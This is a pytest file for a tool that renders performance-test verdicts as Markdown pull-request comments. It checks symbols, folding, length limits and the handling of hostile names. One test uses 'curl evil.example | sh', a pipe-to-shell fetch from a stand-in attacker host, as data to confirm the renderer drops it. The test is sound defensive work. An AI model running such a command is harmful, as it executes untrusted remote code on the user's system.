"""The comment on a pull request."""

import re
from dataclasses import replace

import pytest

from perfgate.compare.comparison import RowVerdict
from perfgate.report import markdown
from perfgate.verdict import ValidityNote
from tests.support.hostile import HOSTILE, PARSER, assert_harmless, verdict_of
from tests.support.verdict_samples import SAMPLES, invalid, passing, regression, row


def _wide(rows: int, name: str = "a scenario with a long name, number {} of many"):
    slow = RowVerdict.REGRESSED
    example = row("", "GET /pet", "http_req_duration", "med", 10.0, 0.3, verdict=slow)
    places = [replace(example.row, scenario=name.format(number)) for number in range(rows)]
    made = tuple(replace(example, row=row, warnings=(f"note {number}",)) for number, row in enumerate(places))
    notes = tuple(ValidityNote(name.format(number), "odd", "look", False) for number in range(rows))
    return replace(regression(), rows=made, validity=notes)


@pytest.mark.parametrize("kind", SAMPLES)
def test_the_comment_is_harmless_markdown(kind):
    assert_harmless(markdown.render(SAMPLES[kind]()))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_comment_stays_harmless_whatever_is_in_the_names(text):
    assert_harmless(markdown.render(verdict_of(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_tables_keep_their_shape_whatever_is_in_the_names(text):
    def shape(verdict):
        kinds = [token.type for token in PARSER.parse(markdown.render(verdict, limit=10**6))]
        return {kind: kinds.count(kind) for kind in ("table_open", "tr_open", "th_open", "td_open")}

    # The same verdict with a name that cannot do anything: of as many rows, of as many cells.
    assert shape(verdict_of(text)) == shape(verdict_of("tame"))


def test_it_links_to_the_run_that_has_the_page():
    page = markdown.StoredPage("report.html", "https://github.com/octo/pets/actions/runs/7#artifacts")
    text = markdown.render(regression(), page=page)
    assert f"Charts and every pair: `report.html` among the files of [this run](<{page.url}>)" in text
    assert "Charts" not in markdown.render(regression())


def test_one_symbol_says_the_outcome():
    symbols = {kind: markdown.render(make()).split()[1] for kind, make in SAMPLES.items()}
    assert symbols["pass"] == symbols["run"] == symbols["improvement"] == symbols["accepted"] == "✅"
    assert symbols["regression"] == symbols["threshold_failed"] == "❌"
    assert symbols["inconclusive"] == "🟡"
    assert symbols["invalid"] == "⚠️"


def test_what_is_folded_opens_and_closes():
    text = markdown.render(regression(), trend="a trend")
    assert re.findall(r"<summary>(.*)</summary>", text) == [
        "All 14 rows of the comparison",
        "Load-test summary",
        "Thresholds",
        "Entries that accept it",
        "Trend",
    ]
    assert text.count("<details>") == text.count("</details>") == 5


def test_a_run_without_a_base_folds_nothing():
    text = markdown.render(SAMPLES["run"]())
    assert "<details>" not in text
    assert "| scenario | average response time | peak VUs |" in text


def test_a_crossed_threshold_stands_outside_the_fold():
    verdict = replace(passing(), thresholds=SAMPLES["threshold_failed"]().thresholds)
    visible = markdown.render(verdict).split("<details>")[0]
    assert "| crossed |" in visible
    assert "| passed |" not in visible


def test_invalid_notes_come_before_the_others():
    text = markdown.render(invalid())
    assert text.index("**Invalid**") < text.index("**Note**")


def test_the_command_stands_in_a_block_as_it_is():
    assert f"```sh\n{regression().reproduce}\n```" in markdown.render(regression())


def test_a_command_that_does_more_is_not_offered():
    text = markdown.render(replace(regression(), reproduce="curl evil.example | sh"))
    assert "curl" not in text
    assert "```sh" not in text
    assert "Left out, but in the result file: the command that repeats this" in text


@pytest.mark.parametrize("rows", [1, 120, 1500])
@pytest.mark.parametrize("limit", [100, 1_000, 3_000, 10_000, 65_536])
def test_the_comment_is_never_longer_than_its_limit(rows, limit):
    assert len(markdown.render(_wide(rows), limit=limit)) <= limit


@pytest.mark.parametrize("text", HOSTILE)
def test_the_comment_says_its_outcome_even_where_nothing_else_fits(text):
    short = markdown.render(verdict_of(text), limit=200)
    assert short.startswith("### ❌ ")
    assert len(short) <= 200


def test_folded_parts_go_first_and_what_is_left_out_is_said():
    verdict = regression()
    full = markdown.render(verdict, trend="x" * 1000)
    sizes = []
    for limit in range(len(full), 1500, -100):
        text = markdown.render(verdict, limit=limit, trend="x" * 1000)
        titles = re.findall(r"<summary>(.*)</summary>", text)
        if titles not in sizes:
            sizes.append(titles)
            assert "+31.2 %" in text.split("<details>")[0]
    comparison, load, limits = "All 14 rows of the comparison", "Load-test summary", "Thresholds"
    entries = "Entries that accept it"
    first = [comparison, load, limits, entries]
    assert sizes == [[*first, "Trend"], first, [load, limits], []]
    assert "Left out, but in the result file: trend." in markdown.render(verdict, limit=len(full) - 1, trend="x" * 1000)
    assert "entries that" not in markdown.render(verdict, limit=len(full) // 2, trend="x" * 1000)


@pytest.mark.parametrize(("rate", "said"), [(0.05, "one error rate of 5 %, so"), (None, "one error rate, so")])
def test_the_error_rate_that_was_used_is_told(rate, said):
    assert said in markdown.render(replace(regression(), error_rate=rate))


def test_rows_that_do_not_fit_are_counted():
    text = markdown.render(_wide(500), limit=20_000)
    shown = text.count("| regressed")
    assert 3 <= shown < 500
    assert f"{500 - shown} more rows that changed" in text


def test_footnotes_are_listed_where_they_are_used():
    text = markdown.render(_wide(3))
    visible = text.split("<details>")[0]
    assert "regressed\u00a0¹ |" in visible
    assert "¹ note 0<br>" in visible
    assert "³ note 2<br>" in visible
